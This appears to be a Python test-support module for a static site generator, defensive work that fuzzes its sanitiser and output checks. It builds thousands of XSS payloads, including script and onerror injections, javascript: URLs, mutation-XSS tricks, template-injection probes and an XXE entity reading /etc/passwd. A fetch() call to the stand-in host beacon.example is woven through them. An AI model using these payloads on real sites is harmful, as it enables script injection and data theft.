"""Markup that nobody wants, made of parts: vectors in contexts in encodings; sites that hold it at every place that
content reaches; and a judge of each kind of file, which knows what may stand there and takes all else for active.

    PAYLOADS                   some ten thousand texts
    write(folder, payloads)    a site with each of them at each place
    faults(path, data)         what is active in a file of such a site, or leads where it must not
"""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Iterable, Iterator, Mapping
from email import message_from_bytes
from email.policy import default
from html import escape
from pathlib import Path
from typing import Any
from urllib.parse import quote

import html5lib
from lxml import etree

from coranto import frontmatter
from coranto.sanitise import _ATTRIBUTES, _TAGS
from coranto.text import clean

RUN = "fetch(`//beacon.example/x`),alert(1)"
EVIL = "beacon.example"
TWICE = "<b>x</b>"

VECTORS = tuple(
    line.replace("RUN", RUN)
    for line in """\
<script>RUN</script>
<ScRiPt src=//beacon.example/x.js></sCrIpT>
<script/x>RUN</script >
<<script>RUN//<</script>
<script type=module>RUN</script>
<script type="application/ld+json">{"a":"</script><script>RUN</script>"}</script>
<img src=x onerror=RUN>
<img src="//beacon.example/x.gif">
<img/src=x/onerror=RUN>
<img src=x onerror="RUN" alt="x
<img srcset="//beacon.example/x 1w" src=x>
<image href=x onerror=RUN>
<svg onload=RUN>
<svg><script>RUN</script></svg>
<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><foreignObject><iframe srcdoc="<script>RUN</script>">
<math><mtext><table><mglyph><style><img src=x onerror=RUN>
<math href="javascript:RUN">x</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<a href="javascript:RUN">x</a>
<a href="java&#x09;script:RUN">x</a>
<a href=" &#14; javascript:RUN">x</a>
<a href="JaVaScRiPt&colon;RUN">x</a>
<a href="data:text/html,<script>RUN</script>">x</a>
<a href="vbscript:RUN">x</a>
<a href="//beacon.example/x" ping="//beacon.example/p">x</a>
<a href="\\\\beacon.example/x">x</a>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>RUN</script>"></iframe>
<frameset onload=RUN><frame src=x></frameset>
<object data="javascript:RUN"></object>
<embed src="//beacon.example/x.swf">
<applet code=x codebase=//beacon.example></applet>
<form action="//beacon.example/x"><input name=p><button formaction="javascript:RUN">x</button></form>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN><option>x</select>
<textarea autofocus onfocus=RUN></textarea>
<style>@import '//beacon.example/x.css'; * { background: url(//beacon.example/x) }</style>
<p style="background:url(//beacon.example/x);position:fixed;inset:0">x</p>
<link rel=stylesheet href=//beacon.example/x.css>
<link rel=import href=//beacon.example/x>
<meta http-equiv=refresh content="0;url=//beacon.example/">
<meta http-equiv=Set-Cookie content="a=b">
<base href="//beacon.example/">
<body onload=RUN background="javascript:RUN">
<details open ontoggle=RUN>x</details>
<video src=x onerror=RUN poster="//beacon.example/p"></video>
<audio src=//beacon.example/x autoplay></audio>
<marquee onstart=RUN>x</marquee>
<dialog open onclose=RUN>x</dialog>
<template><script>RUN</script></template>
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>
<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>
<plaintext><img src=x onerror=RUN>
<title><img title="</title><img src=x onerror=RUN>">
<!--><img src=x onerror=RUN>-->
<!-- --!><img src=x onerror=RUN>
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<![CDATA[<img src=x onerror=RUN>]]>
<?xml-stylesheet href="javascript:RUN"?><img src=x onerror=RUN>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
<custom-x onclick=RUN is=x>x</custom-x>
<p id=main class=masthead name=x onclick=RUN tabindex=1>x</p>
<a name="__proto__" id=location href="mailto:x@y.z?subject=%0d%0aBcc:a@b.c">x</a>
<select><style></select><img src=x onerror=RUN>
<table><caption><svg><desc><td><img src=x onerror=RUN>
<b><i></b><u onclick=RUN></i></u>
[x](javascript:RUN)
[x](<javascript:RUN>)
[x](//beacon.example/x)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
![x](javascript:RUN)
![x](//beacon.example/x.gif "x\\" onerror=RUN")
![x](x "t' onerror='RUN")
<javascript:RUN>
<http://x.example/"onmouseover="RUN>
[x]: javascript:RUN
*[x]: <img src=x onerror=RUN>
[^x]: <img src=x onerror=RUN>
{{ 7 * 7 }}{{ site.__class__.__mro__ }}{% include "/etc/passwd" %}{# x #}
${7*7} #{7*7} <%= 7*7 %> [[${7*7}]]
javascript:RUN
data:text/html,<script>RUN</script>
//beacon.example/x
" onmouseover="RUN" x="
' onmouseover='RUN' x='
` onmouseover=RUN x=`
" autofocus onfocus=RUN//
\\u003cscript\\u003eRUN\\u003c/script\\u003e
\\x3cimg src=x onerror=RUN\\x3e
</p></div></main></body></html><script>RUN</script>""".split("\n")
)

CONTEXTS = (
    "{}", "x {} y", "\">{}", "'>{}", "-->{}", "]]>{}", "</title>{}", "</script>{}", "</textarea>{}", "</style>{}", "</a>{}",
    "<b>{}</b>", "<a title='{}'>x</a>", "[{}](https://x.example/)", "[x](https://x.example/ \"{}\")", "![{}](x.png)", "`{}`", "**{}**", "> {}",
    "- {}", "# {}", "```{}", "    {}", "| a |\n|---|\n| {} |", "term\n:   {}", "!!! note \"{}\"\n    {}", "x[^1]\n\n[^1]: {}", "<!-- {}", "<div title=\"{}", "\\{}", "<p>{}\n\n{}",
)  # fmt: skip


def _figures(text: str) -> str:
    return "".join(f"&#{ord(each)};" if each in "<>\"':" else each for each in text)


ENCODINGS = (
    lambda text: text,
    _figures,
    lambda text: "".join(f"&#x{ord(each):x}" if each in "<>:" else each for each in text),
    lambda text: escape(text),
    lambda text: escape(escape(text)),
    lambda text: quote(text, safe=""),
    lambda text: text.upper(),
    lambda text: text.replace("script", "scr\u00adipt").replace("java", "ja\tva"),
    lambda text: text.replace("<", "<\u200b").replace("on", "o\u0000n").replace("\u0000", "\u0001"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace(" ", "\u000c").replace("=", "\u00a0=\n"),
    lambda text: f"\u202e{text}\u2028{text[::-1]}",
    lambda text: text.replace("<", "<\ufdd0").replace(">", "\uffff>"),
)  # fmt: skip

PAYLOADS = tuple(
    dict.fromkeys(
        encode(context.replace("{}", vector))
        for encode, context, vector in itertools.product(ENCODINGS, CONTEXTS, VECTORS)
    )
)


def some(count: int, start: int = 0) -> list[str]:
    """So many of them, of all kinds: the step is prime to their number."""
    return [PAYLOADS[(start + number) * 7919 % len(PAYLOADS)] for number in range(count)]


def line(text: str) -> str:
    """A text as a value of front matter holds it: on one line, without what is dropped or refused there."""
    return " ".join("".join(each for each in text if each.isprintable() or each in "\u202e\u200b\u00ad").split()) or "x"


PLACES = (
    "title", "authors", "source.name", "source.label", "section", "tags", "standfirst", "summary", "note", "image.alt", "image.caption", "image.credit",
    "image.licence", "related.title", "licence", "corrections.text", "retracted.reason", "imported", "extra", "story", "period", "editor", "part.title", "item.note",
    "record.role", "record.why", "body", "record.body", "edition.body", "page.title", "page.body", "config.title", "config.tagline", "config.menu", "config.licence", "catalogue",
)  # fmt: skip


def write(folder: Path, payloads: list[str]) -> None:
    """A site that holds each payload at each place of ``PLACES``; those of the configuration hold the first one."""
    pieces: dict[str, str] = {}
    for number, payload in enumerate(payloads):
        told = line(payload)
        kind = ("own", "full", "excerpt")[number % 3]
        values: dict[str, Any] = {
            "title": told,
            "date": f"2026-11-{1 + number % 20:02}",
            "id": f"a{number}",
            "slug": f"a{number}",
            "authors": [f"{told} {number}"],
            "source": {"name": f"{told} s{number}", "url": f"https://x.example/?q={quote(told, safe='=()!*$,;:@')}"},
            "section": f"{told} {number % 5}",
            "tags": [f"{told} t{number}", "plain"],
            "language": "en" if number % 2 else "ar",
            "standfirst": told,
            "summary": told,
            "note": clean(payload_text(payload)).strip() or "x",
            "image": {"src": "p.gif", "alt": told, "caption": told, "credit": told, "licence": told},
            "related": [{"title": told, "url": f"https://x.example/{quote(told, safe='')}"}],
            "licence": told,
            "story": f"{told} {number // 2}",
            "republish": kind,
            "corrections": [{"date": "2026-11-21", "text": told}],
            "imported": {"from": told, "evidence": {"title": told}},
            "mood": {told[:90]: told},
        }
        if number % 7 == 6:
            values["retracted"] = {"date": "2026-11-21", "reason": told}
        if number % 4 == 3:
            values |= {"featured": "true", "updated": "2026-11-21"}
        pieces[f"content/a{number}.md"] = frontmatter.join(values, payload_text(payload))
        author = {"name": f"{told} {number}", "role": told, "url": "https://x.example/", "licence": told}
        pieces[f"content/authors/w{number}.md"] = frontmatter.join(author, payload_text(payload))
        source = {
            "name": f"{told} s{number}", "label": told, "why": told, "url": "https://x.example/?a=1&b='2'", "public": "true",
            "feed": f"https://x.example/{quote(told, safe='')}",
        }  # fmt: skip
        pieces[f"content/sources/s{number}.md"] = frontmatter.join(source, payload_text(payload))
        page = {"title": told, "slug": f"p{number}"}
        pieces[f"content/pages/p{number}.md"] = frontmatter.join(page, payload_text(payload))
    first = line(payloads[0])
    items = [{"article": f"a{number}", "note": line(payload)} for number, payload in enumerate(payloads)]
    parts = [{"title": line(payload), "items": items[at::3]} for at, payload in enumerate(payloads[:3])]
    edition = {"number": "1", "title": first, "date": "2026-11-21", "period": first, "editor": first, "parts": parts}
    pieces["content/editions/1.md"] = frontmatter.join(edition, payload_text(payloads[0]))
    config = {
        "title": first,
        "tagline": first,
        "base_url": "https://example.org/d/?".rstrip("?"),
        "licence": first,
        "menu": [{"title": line(payload), "url": "/latest/"} for payload in payloads[:4]],
        "feeds": {"id_authority": "example.org,2026", "tag": ["rss", "atom", "json"], "author": ["rss", "json"]},
        "redirects": {"/gone/": "/latest/"},
        "editions": {"from": "The Packet <packet@example.org>"},
    }
    pieces["config.yaml"] = frontmatter.dump(config)
    words = {"words": {"Latest": first, "About": first, "Our note": first, "From": first, "Read the original": first}}
    pieces["languages/en.yaml"] = frontmatter.dump(words)
    for name, text in pieces.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8", errors="replace")
    (folder / "content/p.gif").write_bytes(b"GIF89a\1\0\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;")


def payload_text(payload: str) -> str:
    """A text as a body may hold it: what is dropped from files is not asked of the writer."""
    return "".join(each for each in payload if each >= " " or each in "\n\t").replace("\x85", "") or "x"


# What may stand in a page of ours beside what the sanitiser lets through: the elements and attributes of the theme.
_PAGE_TAGS = _TAGS | set(
    "html head title meta link script body header nav main article section aside footer h1 span form input button label"
    " bdi bdo details summary noscript output search template dialog menu address data wbr svg path circle rect line".split()
)
_PAGE_ATTRIBUTES = {name for names in _ATTRIBUTES.values() for name in names} | set(
    "charset name content property rel type hreflang media itemprop itemscope itemtype hidden role for value min max"
    " placeholder autocomplete spellcheck translate fetchpriority as color accept-charset crossorigin target viewbox"
    " viewBox viewbox d cx cy r x y fill stroke stroke-width stroke-linecap stroke-linejoin focusable xmlns open disabled".split()
)
_NEVER = set("iframe frame frameset object embed applet base style math foreignobject animate set use marquee".split())
_ADDRESSES = ("href", "src", "action", "formaction", "cite", "poster", "data", "background", "ping", "xlink:href")
_SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:", re.I)


def faults(path: str, data: bytes) -> list[str]:
    """What is active in a file, by its name."""
    found: Iterable[str]
    if path.endswith(".html"):
        found = page_faults(data.decode("utf-8"))
    elif path.endswith((".xml", ".rss", ".atom", ".opml")):
        found = xml_faults(data)
    elif path.endswith(".json") and path != "manifest.json":
        found = json_faults(json.loads(data))
    elif path.endswith(".txt"):
        found = text_faults(data.decode("utf-8"))
    else:
        found = ()
    return [f"{path}: {each}" for each in found]


def tree(html: str) -> Any:
    """What a browser builds of HTML."""
    return html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)


def page_faults(html: str) -> Iterator[str]:
    """A page of ours."""
    for element in tree(html).iter():
        if not isinstance(element.tag, str):
            if "<" in (element.text or ""):
                yield f"a comment {element.text[:60]!r}"
            continue
        tag = element.tag.rpartition("}")[2].lower()
        if tag in _NEVER or tag not in _PAGE_TAGS:
            yield f"<{tag}> in a page"
        refresh = tag == "meta" and element.get("http-equiv") == "refresh"
        for name, value in element.attrib.items():
            name = str(name)
            if (
                name not in _PAGE_ATTRIBUTES
                and not name.startswith(("data-", "aria-"))
                and not (refresh and name == "http-equiv")
            ):
                yield f"<{tag} {name}={value[:60]!r}>"
            loads = name in ("src", "poster", "data") or (
                tag == "link"
                and name == "href"
                and element.get("rel", "") not in ("canonical", "alternate", "license", "author", "prev", "next")
            )
            yield from _address(tag, name, value, loads)
        if tag == "script":
            yield from _script(element)
        if refresh and not re.fullmatch(r"0; url=(?:\.\.?/|https://example\.org/)\S*", element.get("content", "")):
            yield f"a refresh to {element.get('content')!r}"
        if tag == "form" and _leaves(element.get("action", "")):
            yield f"a form to {element.get('action')!r}"


def _address(tag: str, name: str, value: str, loads: bool) -> Iterator[str]:
    if name == "srcset":
        for each in value.split(", "):
            if _leaves(each):
                yield f"<{tag} srcset={value[:60]!r}>"
    if name in _ADDRESSES or (name == "content" and _SCHEME.match(_bare(value)) and "script:" in _bare(value).lower()):
        bare = _bare(value)
        scheme = _SCHEME.match(bare)
        if name in _ADDRESSES and scheme and scheme[0].lower() not in ("http:", "https:", "mailto:"):
            yield f"<{tag} {name}={value[:60]!r}>"
        ours = bare.startswith("https://example.org/d/")
        if name in _ADDRESSES and not ours and (bare.startswith(("//", "\\", "/\\")) or (loads and _leaves(bare))):
            yield f"<{tag} {name}={value[:60]!r}> loads from elsewhere"


def _bare(value: str) -> str:
    """An address as browsers read it."""
    return re.sub(r"[\t\n\r]", "", value).strip("".join(map(chr, range(0x21))))


def _leaves(address: str) -> bool:
    bare = _bare(address)
    return bool(_SCHEME.match(bare)) or bare.startswith(("//", "\\", "/\\"))


def _script(element: Any) -> Iterator[str]:
    source, kind = element.get("src"), element.get("type", "")
    if source is None and kind == "application/ld+json":
        try:
            yield from json_faults(json.loads(element.text or ""), ld=True)
        except ValueError:
            yield f"JSON-LD that is none: {(element.text or '')[:80]!r}"
    elif source is None or not re.fullmatch(r"(?:\.\.?/|/d/)+(?:theme/[\w-]+/)[\w./-]+\.js", source):
        yield f"a script {source!r}: {(element.text or '')[:60]!r}"


def fragment_faults(html: str) -> Iterator[str]:
    """A piece of HTML as feed readers and mail clients get it: what the sanitiser lets through, and no more."""
    parsed = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    for element in itertools.islice(parsed.iter(), 1, None):
        tag = str(element.tag).rpartition("}")[2].lower()
        if tag not in _TAGS:
            yield f"<{tag}> in a fragment"
        for name, value in element.attrib.items():
            allowed = _ATTRIBUTES.get(tag, set()) | {"lang", "dir"}
            if name not in allowed:
                yield f"<{tag} {name}={value[:60]!r}> in a fragment"
            scheme = _SCHEME.match(_bare(value)) if name in _ADDRESSES else None
            if scheme and scheme[0].lower() not in ("http:", "https:", "mailto:"):
                yield f"<{tag} {name}={value[:60]!r}> in a fragment"


_HTML = ("description", "encoded", "content", "summary", "title", "subtitle", "rights", "copyright")


def xml_faults(data: bytes) -> Iterator[str]:
    """A feed, a list of feeds or a sitemap: sound XML, whose HTML is sanitised, whose addresses are of the web."""
    root = etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True))
    if root.getroottree().docinfo.doctype:
        yield "a DOCTYPE"
    rss = root.tag == "rss"
    for element in root.iter():
        if not isinstance(element.tag, str):
            yield f"a {type(element).__name__}"
            continue
        tag, text = etree.QName(element).localname, element.text or ""
        kind = element.get("type", "")
        above = element.getparent()  # the description of a channel is plain text, and so is that of a picture
        item = rss and above is not None and above.tag == "item"
        if (item and tag in ("description", "encoded")) or (tag in _HTML and kind in ("html", "xhtml")):
            yield from (f"<{tag}>: {each}" for each in fragment_faults(text))
        if tag in ("link", "guid", "loc", "url", "id", "comments", "docs") and text.strip():
            scheme = _SCHEME.match(_bare(text))
            known = (f"{each}:" for each in ("http", "https", "tag", "mailto"))
            if not scheme or scheme[0].lower() not in known:
                yield f"<{tag}>{text[:60]!r}"
        for name, value in element.attrib.items():
            if str(name).rpartition("}")[2] in ("href", "url", "src", "uri", "xmlUrl", "htmlUrl", "base"):
                scheme = _SCHEME.match(_bare(str(value)))
                if not scheme or scheme[0].lower() not in ("http:", "https:", "mailto:"):
                    yield f"<{tag} {name}={str(value)[:60]!r}>"


def json_faults(value: Any, key: str = "", ld: bool = False) -> Iterator[str]:
    """A JSON feed, a record for hosts, or JSON-LD."""
    if isinstance(value, Mapping):
        for name, each in value.items():
            yield from json_faults(each, name, ld)
    elif isinstance(value, list):
        for each in value:
            yield from json_faults(each, key, ld)
    elif isinstance(value, str):
        if key == "content_html":
            yield from fragment_faults(value)
        if re.search(r"(?:url|image|icon|favicon|logo|sameAs|@id|isBasedOn|avatar)$", key, re.I):
            scheme = _SCHEME.match(_bare(value))
            if value and (not scheme or scheme[0].lower() not in ("http:", "https:", "mailto:", "tag:")):
                yield f"{key}: {value[:60]!r}"


def text_faults(text: str) -> Iterator[str]:
    """A text: no controls."""
    if found := [each for each in text if each < " " and each not in "\n\t"]:
        yield f"controls {found!r}"


HEADERS = ("from", "to", "subject", "date", "message-id", "mime-version", "content-type", "x-unsent", "list-unsubscribe", "list-unsubscribe-post", "list-id", "content-language")  # fmt: skip


def mail_faults(html: str, text: str, eml: bytes) -> Iterator[str]:
    """The mail of an edition: its HTML with inlined styles, its text, and the message with both."""
    for element in tree(html).iter():
        tag = str(element.tag).rpartition("}")[2].lower()
        if tag in (_NEVER - {"style"}) | {"script", "svg", "form", "input", "button", "link", "video", "audio"}:
            yield f"<{tag}> in a mail"
        for name, value in element.attrib.items() if isinstance(element.tag, str) else ():
            if str(name).lower().startswith("on") or str(name) in ("srcdoc", "formaction", "ping", "background"):
                yield f"<{tag} {name}={value[:60]!r}> in a mail"
            scheme = _SCHEME.match(_bare(value)) if name in _ADDRESSES else None
            if scheme and scheme[0].lower() not in ("http:", "https:", "mailto:"):
                yield f"<{tag} {name}={value[:60]!r}> in a mail"
            if name == "style" and re.search(r"url\(|expression|@import|behavior", value, re.I):
                yield f"style={value[:60]!r} in a mail"
            if name == "src" and not value.startswith("https://example.org/d/"):
                yield f"<{tag} src={value[:60]!r}> in a mail"
        if tag == "style" and "beacon" in (element.text or ""):
            yield "a style of somebody else's in a mail"
    yield from text_faults(text)
    message = message_from_bytes(eml, policy=default)
    for name in message.keys():  # noqa: SIM118 (no mapping: a name may stand twice)
        if name.lower() not in HEADERS:
            yield f"a header {name!r}"
    if message.defects or [part.get_content_type() for part in message.walk()] != [
        "multipart/alternative",
        "text/plain",
        "text/html",
    ]:
        yield f"a message of other parts: {[part.get_content_type() for part in message.walk()]}"
